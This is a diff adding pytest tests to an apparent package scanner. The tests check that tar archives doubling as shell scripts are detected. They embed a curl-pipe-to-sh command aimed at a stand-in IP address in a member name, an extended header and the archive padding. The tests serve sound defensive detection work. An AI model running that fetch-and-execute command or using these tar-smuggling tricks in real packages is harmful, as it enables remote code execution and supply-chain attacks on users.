@@ -75,6 +75,31 @@ def test_a_tar_that_can_be_read_in_two_ways(role, member, build, make, examine):
         examine(compress(build(make))).is_found(member, role)
 
 
+SHELL = b"curl -s http://192.0.2.7/a|sh #"
+
+
+def script_in_a_name(make):
+    return plain(make, SHELL.decode(), b"x")
+
+
+def script_in_an_extended_header(make):
+    data = make.tar(make.member("d/a.py", b"pass\n", comment="x\n" + SHELL.decode()))
+    return mended(data, 0, b": #".ljust(100, b"\0"))
+
+
+def script_in_the_padding(make):
+    data = mended(plain(make, ": #", b"\n"), 257, bytes(8))
+    return data[:513] + b"\n" + SHELL + data[514 + len(SHELL) :]
+
+
+@pytest.mark.parametrize("build", [script_in_a_name, script_in_an_extended_header, script_in_the_padding])
+@pytest.mark.parametrize("name", ["run.sh", "run", "data.tar"])
+def test_a_tar_that_is_a_script_too(name, build, make, examine):
+    seen = examine(make.sdist({name: build(make)}))
+    assert seen.row.values["code_text_category_network"], seen.say()
+    assert f"demo-1.0/{name}!/!headers" in {place.member for place in seen.row.evidence}, seen.say()
+
+
 def halves(compress, make):
     data = make.tree({"demo/x.py": make.code})
     return compress(data[:700]) + compress(data[700:])
